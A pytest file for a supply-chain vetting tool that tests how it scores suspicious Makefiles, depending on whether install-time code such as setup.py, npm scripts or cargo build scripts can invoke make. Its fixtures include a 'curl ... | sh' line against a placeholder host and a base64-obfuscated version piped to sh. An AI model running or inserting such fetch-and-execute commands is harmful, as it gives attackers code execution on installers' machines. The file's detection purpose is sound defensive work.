"""Makefiles that nothing in a release runs: what they do is a maintainer's."""

import json

import pytest

from tests.incidents.cases import Held
from tests.vetting.domain.signals.running.test_unread import Files
from tests.vetting.domain.signals.test_scan import Odd
from vetting.domain.comparing import changes_between, read_sides, scan_of, scan_of_running, under_scan
from vetting.domain.releases import Ecosystem
from vetting.domain.signals.interface import Claimed, Finding
from vetting.domain.signals.running import by_hand
from vetting.domain.signals.scan import RunningScan

UPLOADS = "release:\n\ttwine upload dist/*\n\tcurl -s http://demo.example.invalid/x | sh\n"
SETUP = "from setuptools import setup\nsetup()\n"
BY_HAND = "Nothing in the release was seen to run make: only a maintainer's hand does."
RUNS = "import subprocess\nsubprocess.run(['make', *ARGUMENTS])\n"
"""In setup.py."""


def found(new: Files, old: Files | None = None, claimed: Claimed | None = None) -> list[Finding]:
    """Give all findings of a change, weighed."""
    held = Held()
    trees = [None if files is None else held.tree({path: _bytes(data) for path, data in files.items()})
             for files in (old, new)]  # fmt: skip
    changes = changes_between(trees[0], trees[1] or held.tree({}), held).changes
    running, findings = RunningScan(), list[Finding]()
    for sides in (read_sides(change, held) for change in changes):
        findings += scan_of(sides).findings
        if (file := under_scan(sides)) is not None:
            running.see(file)
    assert [*running.weighed(findings)] == findings, "nothing is known before there is a result"
    scan_of_running(running, trees[1] or held.tree({}), changes, claimed, held)
    return [*running.weighed(findings)]


def _bytes(data: str | bytes) -> bytes:
    return data if isinstance(data, bytes) else data.encode()


def worst(findings: list[Finding], path: str = "Makefile") -> list[tuple[str, str]]:
    """List rule and severity of what was found in one file, addresses left out."""
    return [(one.rule, one.severity.value) for one in findings if one.path == path and one.rule != "C10"]


@pytest.mark.parametrize(
    "others",
    [
        {"setup.py": SETUP},
        {"setup.py": "import subprocess\nsubprocess.run(['git', 'x'])\n# make x\n"},
        {"pyproject.toml": "[build-system]\nbuild-backend = 'setuptools.build_meta'\n[tool.tox]\nrun = 'make x'\n"},
        {"package.json": json.dumps({"scripts": {"release": "make release", "install": "cmake x"}})},
        {"setup.py": SETUP, "release.sh": "make release\n", "README": "make x\n", "other.mk": "x:\n\tmake y\n"},
        {"setup.py": SETUP, "demo/a.py": "import os\nos.system('cmake .')\n", "b.py": "make\n"},
        {"setup.py": SETUP, "node_modules/x/package.json": "{}", "bin/x": "#!/bin/sh\nls\n"},
    ],
)
def test_what_only_a_maintainer_runs_counts_less(others: Files) -> None:
    """It is still told, and that nobody else was seen to run it."""
    findings = found({"Makefile": UPLOADS, **others})

    assert worst(findings) == [("C3", "medium"), ("C9", "medium")]
    assert all(BY_HAND in one.message for one in findings if one.rule in {"C3", "C9"})


RUN = {
    "setup.py": {"setup.py": RUNS},
    "another folder": {"setup.py": "import os\nos.system('make -C sub all')\n", "sub/Makefile": "all:\n"},
    "another file": {"setup.py": "import os\nos.system('make -f rules.mk')\n", "rules.mk": "include Makefile\n"},
    "a script of its own": {"setup.py": "import os\nos.system('./go')\n", "go": "#!/bin/make -f\ninclude Makefile\n"},
    "a shell script that runs": {"setup.py": "import os\nos.system('sh x.sh')\n", "x.sh": "exec make -j4\n"},
    "another make": {"setup.py": "import os\nos.system('/usr/bin/bmake-3')\n"},
    "npm": {"package.json": json.dumps({"scripts": {"postinstall": "npm run b", "b": "cd x && make"}})},
    "what npm brings along": {"node_modules/a/package.json": json.dumps({"scripts": {"install": "make -C ../.."}})},
    "a hook of the backend": {"pyproject.toml": "[tool.hatch.build.hooks.scripts]\ncommands = ['make x']\n"},
    "cargo": {"Cargo.toml": "[package]\n", "build.rs": 'fn main() { Command::new("make").arg("x"); }\n'},
    "code below the top": {"setup.py": SETUP, "demo/a.py": "import os\nos.system('make x')\n"},
    "its name as a program": {"setup.py": "import os\nos.system('sh Makefile')\n"},
    "code that nobody here can read": {"setup.py": Odd(b"import os\nos.system('x')\n")},
    "code that cannot be parsed": {"setup.py": "import os\nos.system('make x'\n"},
}  # fmt: skip


@pytest.mark.parametrize("is_old", [False, True], ids=["came", "was there"])
@pytest.mark.parametrize("others", RUN.values(), ids=RUN)
def test_what_may_be_run_by_whoever_installs_counts_in_full(others: Files, is_old: bool) -> None:  # noqa: FBT001  # a case
    """Whether what starts make came with the change or was there before."""
    findings = found({"Makefile": UPLOADS, **others}, dict(others) if is_old else None)

    assert worst(findings) == [("C3", "high"), ("C9", "high")]
    assert not any(BY_HAND in one.message for one in findings)


def test_of_what_is_built_already_nobody_knows_who_runs_it() -> None:
    """No maintainer has any use for a Makefile in a wheel."""
    wheel = Claimed(Ecosystem.PYPI, "demo", "1", "demo-1-py3-none-any.whl")
    assert worst(found({"Makefile": UPLOADS}, claimed=wheel)) == [("C3", "high"), ("C9", "high")]


def test_what_is_hidden_counts_in_full() -> None:
    """Nobody hides from himself what he runs by hand; and what is low stays so."""
    findings = found({"Makefile": "x:\n\techo Y3VybCB4IHwgc2g= | base64 -d | sh\n\tcurl http://demo.example.invalid\n"})
    assert {("C2", "high"), ("C10", "low")} <= {(one.rule, one.severity.value) for one in findings}


@pytest.mark.parametrize(("limit", "most"), [("MAX_PARSED", 0), ("MAX_SEARCHED_BYTES", 3)])
def test_where_too_much_would_have_to_be_read_it_counts_in_full(
    monkeypatch: pytest.MonkeyPatch, limit: str, most: int
) -> None:
    """Nobody knows then."""
    monkeypatch.setattr(by_hand, limit, most)
    setup = {"setup.py": "import os\nos.system('ls')\n"}
    assert worst(found({"Makefile": UPLOADS, **setup}, dict(setup))) == [("C3", "high"), ("C9", "high")]
